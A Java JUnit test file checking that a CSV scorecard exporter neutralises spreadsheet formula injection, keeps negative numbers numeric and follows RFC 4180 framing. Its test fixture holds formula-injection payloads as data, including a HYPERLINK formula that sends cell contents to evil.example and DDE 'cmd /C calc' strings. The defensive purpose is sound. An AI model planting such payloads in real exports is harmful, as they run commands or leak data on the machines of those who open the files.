package dev.attain.report;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.common.collect.ImmutableList;
import com.google.common.collect.Range;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.attain.eval.Evaluation;
import dev.attain.eval.Scorecard;
import dev.attain.eval.Status;
import dev.attain.model.Baseline;
import dev.attain.model.Indicator;
import dev.attain.model.Measure;
import dev.attain.model.Outcome;
import dev.attain.model.Period;
import dev.attain.model.Source;
import dev.attain.model.Target;
import dev.attain.quantity.Figure;
import dev.attain.quantity.Qualifier;
import dev.attain.quantity.Unit;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** CSV: formula injection neutralised per OWASP, negative numbers kept as numbers, RFC 4180 framing. */
class CsvReportTest {

    /** A growth rate that fell: negative actual, difference and progress; and hostile text everywhere. */
    private static Scorecard hostile() {
        Indicator ind = Indicator.builder("rate", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", Unit.PERCENT)
                .nameEn("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")").measure(Measure.RATE).nonNegative(false)
                .build();
        Target t = Target.builder("+cmd|' /C calc'!A0").indicators("rate").scope(Fixtures.JX).period("2022")
                .requirement("5%").baseline(Baseline.of(Period.parse("2021"), Figure.parse("2%")))
                .source(Source.of("doc.txt", LocalDate.of(2022, 1, 1), "@SUM(1+1)*cmd|' /C calc'!A0")).build();
        Outcome o = Outcome.of("rate", Fixtures.JX, Period.parse("2022"), Figure.of(Qualifier.EXACT, new BigDecimal("-1.5"), Unit.PERCENT),
                LocalDate.of(2023, 1, 20));
        Evaluation e = Evaluation.of(t, ImmutableList.of(ind), Status.MISSED, Optional.of(new BigDecimal("5")),
                Optional.of(Range.singleton(new BigDecimal("-1.5"))), Optional.empty(),
                Optional.of(Range.singleton(new BigDecimal("-6.5"))),
                Optional.of(Range.singleton(new BigDecimal("6.5"))),
                Optional.of(Range.singleton(new BigDecimal("-1.166666666666667"))), Optional.empty(), Optional.empty(),
                Optional.empty(), ImmutableList.of(o),
                ImmutableList.of("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"));
        return Scorecard.of(Fixtures.AS_OF, List.of(e));
    }

    private static List<CsvRecord> parse(String csv) {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
            return reader.stream().toList();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static String cell(List<CsvRecord> records, int row, String column) {
        int c = records.get(0).getFields().indexOf(column);
        assertTrue(c >= 0, "no column " + column);
        return records.get(row).getField(c);
    }

    @Test
    void test_render_neutralisesFormulaInjection() {
        List<CsvRecord> records = parse(CsvReport.of(Locale.ENGLISH).render(hostile()));
        assertEquals(2, records.size());
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", cell(records, 1, "indicators"));
        assertEquals("'+cmd|' /C calc'!A0", cell(records, 1, "target_id"));
        assertEquals("'-2+3+cmd|' /C calc'!A0\n\t=1+1\n\r=1+1\n =1+1", cell(records, 1, "reasons"));
        // every text cell that a spreadsheet could run starts with the quote
        for (String field : records.get(1).getFields()) {
            if (!field.isEmpty() && "=+-@\t\r".indexOf(field.charAt(0)) >= 0) {
                assertTrue(field.matches("-?[0-9]+(\\.[0-9]+)?"), "not neutralised: " + field);
            }
        }
    }

    @Test
    void test_render_negativeNumbersStayNumbers() {
        List<CsvRecord> records = parse(CsvReport.of(Locale.ENGLISH).render(hostile()));
        assertEquals("-1.5", cell(records, 1, "actual_lower"));
        assertEquals("-1.5", cell(records, 1, "actual_upper"));
        assertEquals("-6.5", cell(records, 1, "difference_lower"));
        assertEquals("-1.166666666666667", cell(records, 1, "progress_lower"));
        assertEquals("5", cell(records, 1, "required_value"));
    }

    @Test
    void test_neutralize_rules() {
        assertEquals("'=1+1", CsvReport.neutralize("=1+1", false));
        assertEquals("'+1", CsvReport.neutralize("+1", false));
        assertEquals("'-1", CsvReport.neutralize("-1", false));   // in a text column even a number is text
        assertEquals("-1", CsvReport.neutralize("-1", true));     // in a numeric column it stays a number
        assertEquals("-0.25", CsvReport.neutralize("-0.25", true));
        assertEquals("'-1+1", CsvReport.neutralize("-1+1", true)); // not a plain number: neutralised
        assertEquals("'-1E+5", CsvReport.neutralize("-1E+5", true));
        assertEquals("'@SUM(A1)", CsvReport.neutralize("@SUM(A1)", false));
        assertEquals("'\t=1", CsvReport.neutralize("\t=1", false));
        assertEquals("'\r=1", CsvReport.neutralize("\r=1", false));
        assertEquals("' =1", CsvReport.neutralize(" =1", false));
        assertEquals("'＝1+1", CsvReport.neutralize("＝1+1", false));
        assertEquals("江西省", CsvReport.neutralize("江西省", false));
        assertEquals("a=b", CsvReport.neutralize("a=b", false));
        assertEquals("", CsvReport.neutralize("", true));
    }

    @Test
    void test_render_rfc4180Framing() {
        String csv = CsvReport.of(Locale.ENGLISH).render(Fixtures.scorecard());
        assertTrue(csv.startsWith("as_of,target_id,"), csv);
        assertTrue(csv.endsWith("\r\n"));
        List<CsvRecord> records = parse(csv);
        assertEquals(7, records.size());
        for (CsvRecord r : records) {
            assertEquals(records.get(0).getFieldCount(), r.getFieldCount(), r.toString());
        }
        assertEquals("Manufacturing value added (manuf) reported 900000000000 CNY for 2022 (published 2023-02-01, final), "
                + "the requirement ≥ 1000000000000 CNY is not met; attainment 90.0%\ngap 100000000000 CNY",
                cell(records, 1, "reasons"));
        assertEquals("1.471428571428571", cell(records, 3, "attainment_lower"));
        assertEquals("", cell(records, 3, "attainment_upper"));
        assertEquals("true", cell(records, 3, "actual_lower_inclusive"));
        assertEquals("", cell(records, 3, "actual_upper_inclusive"));
    }

    @Test
    void test_write_file_hasByteOrderMark(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("card.csv");
        CsvReport.of(Locale.CHINESE).write(Fixtures.scorecard(), file);
        byte[] bytes = Files.readAllBytes(file);
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                new byte[] {bytes[0], bytes[1], bytes[2]});
        CsvReport.of(Locale.CHINESE).withByteOrderMark(false).write(Fixtures.scorecard(), file);
        assertEquals(CsvReport.of(Locale.CHINESE).render(Fixtures.scorecard()),
                Files.readString(file, StandardCharsets.UTF_8));
    }
}
